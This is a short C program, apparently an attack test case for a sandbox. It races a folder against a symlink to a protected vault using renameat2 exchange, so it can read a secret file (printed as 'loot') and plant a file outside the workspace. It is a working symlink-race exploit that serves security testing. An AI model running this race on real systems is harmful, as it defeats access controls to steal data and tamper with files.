/* A folder in the workspace changes places with a link out of it, while files are written below it. */
// aims: secret
// control: harms
#include "attack.h"

int main(void) {
  const char *vault = target("VAULT");
  mkdir("here", 0755);
  if (symlink(vault, "there")) cannot("no link");
  tried();
  pid_t flipper = fork();
  if (!flipper)
    for (;;) renameat2(AT_FDCWD, "here", AT_FDCWD, "there", RENAME_EXCHANGE);
  for (int round = 0; round < 3000; round++) {
    char data[200] = {0};
    int file = open("here/secret.txt", O_RDONLY);
    if (file >= 0 && read(file, data, sizeof data - 1) > 0) printf("loot: %s\n", data);
    close(file);
    file = open("here/planted", O_CREAT | O_WRONLY, 0644);
    close(file);
  }
  kill(flipper, SIGKILL);
  return 0;
}
